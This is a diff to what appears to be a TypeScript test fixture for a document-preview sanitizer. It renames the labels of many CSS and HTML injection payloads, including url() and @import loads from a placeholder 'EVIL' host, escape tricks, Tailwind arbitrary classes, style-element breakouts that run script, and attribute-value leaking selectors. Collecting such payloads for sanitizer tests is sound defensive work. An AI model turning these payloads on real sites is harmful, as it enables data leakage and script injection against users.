@@ -4,30 +4,30 @@ import { pages, type Payload } from "../payload.ts";
 const values: Readonly<Record<string, string>> = {
   url: "url(https://EVIL/p.png)",
   "url in quotes": "url('https://EVIL/p.png')",
-  "url in capitals": "URL(https://EVIL/p.png)",
-  "url with blanks": "url(  'https://EVIL/p.png'  )",
-  "url by escape": "\\\\75rl(https://EVIL/p.png)",
-  "url by escape with zeroes": "u\\\\000072l(https://EVIL/p.png)",
-  "url with a comment": "/**/url(https://EVIL/p.png)",
+  "url in uppercase": "URL(https://EVIL/p.png)",
+  "url with spaces": "url(  'https://EVIL/p.png'  )",
+  "url with an escape": "\\\\75rl(https://EVIL/p.png)",
+  "url with an escape with leading zeros": "u\\\\000072l(https://EVIL/p.png)",
+  "url after a comment": "/**/url(https://EVIL/p.png)",
   "url with a comment inside": "u/**/rl(https://EVIL/p.png)",
-  "url without scheme": "url(//EVIL/p.png)",
-  "url behind a colour": "red url(https://EVIL/p.png)",
+  "url without a scheme": "url(//EVIL/p.png)",
+  "url after a color": "red url(https://EVIL/p.png)",
   "image-set": "image-set('https://EVIL/p.png' 1x)",
-  "image-set by its old name": "-webkit-image-set(url(https://EVIL/p.png) 1x)",
+  "image-set with its prefix": "-webkit-image-set(url(https://EVIL/p.png) 1x)",
   "cross-fade": "-webkit-cross-fade(url(https://EVIL/p.png), url(https://EVIL/q.png), 50%)",
   image: "image('https://EVIL/p.png')",
   src: "src('https://EVIL/p.png')",
-  "a variable's stand-in": "var(--none, url(https://EVIL/p.png))",
+  "the fallback of a variable": "var(--none, url(https://EVIL/p.png))",
   expression: "expression(RUN)",
   "a script": "url(javascript:RUN)",
   "a second declaration": "red; background-image: url(https://EVIL/p.png)",
   "a closed rule": "red} body { background: url(https://EVIL/p.png)",
-  "a file of the site and one of the web": "url(/a.png), url(https://EVIL/p.png)",
-  "a file of the site in a set": "image-set(url(/a.png) 1x, 'https://EVIL/p.png' 2x)",
-  "our name of a file of the site": 'url(\\"docwright-site:/a.png\\"), url(https://EVIL/p.png)',
-  "our name of a host": 'url(\\"docwright-site://EVIL/p.png\\")',
-  "a stand-in of ours": "u\ue000rl(https://EVIL/p.png)",
-  "a drawing of data":
+  "a file from the site and one from the web": "url(/a.png), url(https://EVIL/p.png)",
+  "a file from the site in an image set": "image-set(url(/a.png) 1x, 'https://EVIL/p.png' 2x)",
+  "the preview's internal URL of a site file": 'url(\\"docwright-site:/a.png\\"), url(https://EVIL/p.png)',
+  "the preview's internal URL with a host": 'url(\\"docwright-site://EVIL/p.png\\")',
+  "the preview's internal placeholder character": "u\ue000rl(https://EVIL/p.png)",
+  "an SVG image in a data URL":
     "url(\\\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://EVIL/p.png'/></svg>\\\")",
 };
 
@@ -39,12 +39,12 @@ const cssName = (name: string): string =>
 
 const sheets: Readonly<Record<string, string>> = {
   "@import": "@import url(https://EVIL/a.css);",
-  "@import without brackets": "@import 'https://EVIL/a.css';",
-  "@import by escape": "@\\69mport 'https://EVIL/a.css';",
-  "@import behind a comment": "/*a*/@import/*b*/'https://EVIL/a.css';",
-  "@import behind rules of a charset": "@charset 'utf-8';@import 'https://EVIL/a.css' layer(x);",
+  "@import with a string": "@import 'https://EVIL/a.css';",
+  "@import with an escape": "@\\69mport 'https://EVIL/a.css';",
+  "@import after a comment": "/*a*/@import/*b*/'https://EVIL/a.css';",
+  "@import after a charset rule": "@charset 'utf-8';@import 'https://EVIL/a.css' layer(x);",
   "@font-face": "@font-face{font-family:x;src:url(https://EVIL/f.woff2)} *{font-family:x}",
-  "@font-face in capitals": "@FONT-FACE{font-family:xx;src:url(https://EVIL/f.woff2)} *{font-family:xx}",
+  "@font-face in uppercase": "@FONT-FACE{font-family:xx;src:url(https://EVIL/f.woff2)} *{font-family:xx}",
   "@namespace": "@namespace url(https://EVIL);",
   "@document": "@-moz-document url-prefix(){*{background:url(https://EVIL/p.png)}}",
   "@media": "@media all{.dw-page,*{background-image:url(https://EVIL/p.png)}}",
@@ -59,18 +59,18 @@ const sheets: Readonly<Record<string, string>> = {
   "@scope": "@scope (body){*{background-image:url(https://EVIL/p.png)}}",
   "@starting-style": "@starting-style{*{background-image:url(https://EVIL/p.png)}}",
   "a rule": "*{background-image:url(https://EVIL/p.png)}",
-  "a rule by escape": "*{background-image:\\75rl(https://EVIL/p.png)}",
-  "a rule by a variable": ":root{--a:url(https://EVIL/p.png)} *{background-image:var(--a)}",
-  "a rule by a variable by escape": "*{--a:\\75rl(https://EVIL/p.png);background-image:var(--a)}",
+  "a rule with an escape": "*{background-image:\\75rl(https://EVIL/p.png)}",
+  "a rule with a variable": ":root{--a:url(https://EVIL/p.png)} *{background-image:var(--a)}",
+  "a rule with a variable and an escape": "*{--a:\\75rl(https://EVIL/p.png);background-image:var(--a)}",
   "a nested rule": "*{&,& *{background-image:url(https://EVIL/p.png)}}",
-  "a rule that tells what is written":
+  "a rule that leaks attribute values":
     "a[href^='/']{background:url(https://EVIL/p.png)} input[value^='a']{background:url(https://EVIL/q.png)}",
   "a rule for content": "*::before{content:url(https://EVIL/p.png)}",
   "a rule for the cursor": "*{cursor:url(https://EVIL/c.png),auto}",
-  "a rule in quotes that do not end": 'a{content:"} *{background-image:url(https://EVIL/p.png)} b{"}',
-  "a rule behind the end of the element": "</style><img src=x onerror=RUN>",
-  "a rule in a comment of HTML": "<!-- *{background-image:url(https://EVIL/p.png)} -->",
-  "a script of old":
+  "a rule in an unclosed string": 'a{content:"} *{background-image:url(https://EVIL/p.png)} b{"}',
+  "markup after the end of the element": "</style><img src=x onerror=RUN>",
+  "a rule in an HTML comment": "<!-- *{background-image:url(https://EVIL/p.png)} -->",
+  "obsolete properties that run code":
     "*{background:url(javascript:RUN);width:expression(RUN);behavior:url(https://EVIL/a.htc);-moz-binding:url(https://EVIL/a.xml#x)}",
 };
 
@@ -78,7 +78,7 @@ const classes: Readonly<Record<string, string>> = {
   "an arbitrary picture": "bg-[url(https://EVIL/p.png)]",
   "an arbitrary picture in quotes": "bg-[url('https://EVIL/p.png')]",
   "an arbitrary property": "[background-image:url(https://EVIL/p.png)]",
-  "an arbitrary property by escape": "[background-image:\\75rl(https://EVIL/p.png)]",
+  "an arbitrary property with an escape": "[background-image:\\75rl(https://EVIL/p.png)]",
   "an arbitrary variable": "[--a:url(https://EVIL/p.png)] bg-[image:var(--a)]",
   "arbitrary content": "before:content-[url(https://EVIL/p.png)]",
   "an arbitrary cursor": "cursor-[url(https://EVIL/c.png),auto]",
@@ -86,17 +86,19 @@ const classes: Readonly<Record<string, string>> = {
   "an arbitrary mask": "[mask-image:url(https://EVIL/p.png)] [-webkit-mask:url(https://EVIL/p.png)]",
   "an arbitrary selector": "[&_*]:bg-[url(https://EVIL/p.png)]",
   "an arbitrary rule": "[@import_url(https://EVIL/a.css)]:flex [@font-face]:flex",
-  "a rule that is left": "bg-[red}*{background:url(https://EVIL/p.png)}]",
-  "a selector that is left": "[&{}*{background:url(https://EVIL/p.png)}a]:flex",
-  "a media query that is left": "min-[1px){*{background:url(https://EVIL/p.png)}}@media(min-width:1px]:flex",
+  "a class that closes its rule": "bg-[red}*{background:url(https://EVIL/p.png)}]",
+  "a class that closes its selector": "[&{}*{background:url(https://EVIL/p.png)}a]:flex",
+  "a class that closes its media query":
+    "min-[1px){*{background:url(https://EVIL/p.png)}}@media(min-width:1px]:flex",
   "an important picture": "!bg-[url(https://EVIL/p.png)] bg-[url(https://EVIL/p.png)]!",
-  "a gradient of it": "bg-[linear-gradient(red,blue),url(https://EVIL/p.png)] from-[url(https://EVIL/p.png)]",
-  "a font of it": "font-[url(https://EVIL/f.woff2)] text-[url(https://EVIL/p.png)]",
-  "a filter of it":
+  "a gradient with a picture":
+    "bg-[linear-gradient(red,blue),url(https://EVIL/p.png)] from-[url(https://EVIL/p.png)]",
+  "a font with a URL": "font-[url(https://EVIL/f.woff2)] text-[url(https://EVIL/p.png)]",
+  "a filter with a URL":
     "[filter:url(https://EVIL/a.svg#x)] backdrop-[url(https://EVIL/a.svg#x)] drop-shadow-[url(https://EVIL/x)]",
-  "a shadow of it": "shadow-[0_0_0_url(https://EVIL/p.png)] border-[url(https://EVIL/p.png)]",
+  "a shadow with a picture": "shadow-[0_0_0_url(https://EVIL/p.png)] border-[url(https://EVIL/p.png)]",
   "an image set": "bg-[image-set('https://EVIL/p.png'_1x)]",
-  "an underscore for a blank": "bg-[url(_https://EVIL/p.png_)]",
+  "an underscore in place of a space": "bg-[url(_https://EVIL/p.png_)]",
   "a theme function":
     "bg-[theme(url(https://EVIL/p.png))] bg-(--a) bg-[image:theme('x',url(https://EVIL/p.png))]",
 };
@@ -126,25 +128,25 @@ export const styles: readonly Payload[] = [
     html: "",
   })),
   ...pages("style", {
-    "over everything":
+    "an element that covers everything":
       '<div style={{ position: "fixed", inset: 0, zIndex: 99999 }}>a</div>\n\n<div className="fixed inset-0 z-[99999]">a</div>',
-    "text with a style element's end": [
+    "text that closes the style element": [
       "<style>{'</style><script>RUN</script>'}</style>",
       "<style></style><script>RUN</script>",
     ],
-    "a link to a sheet in a style": [
+    "an import in a style element": [
       "<style>\n  @import 'https://EVIL/a.css';\n</style>",
       "<style>\n  @import 'https://EVIL/a.css';\n</style>",
     ],
-    "a style by its media": [
+    "a style element with a load handler": [
       '<style media="all" onLoad="RUN">{`a{}`}</style>',
       '<style media="all" onload="RUN">a{}</style>',
     ],
-    "a style as an attribute by spread": [
+    "a spread style attribute": [
       '<p {...{ style: "background:url(https://EVIL/p.png)" }}>a</p>',
       '<p style="background:url(https://EVIL/p.png)">a</p>',
     ],
-    "a style of a component": [
+    "a style on a component": [
       '<Frame style={{ backgroundImage: "url(https://EVIL/p.png)" }} className="a"><p>a</p></Frame>\n\n<Columns style={{ background: "url(https://EVIL/p.png)" }}><p>b</p></Columns>',
       '<p style="background:url(https://EVIL/p.png)">a</p>',
     ],
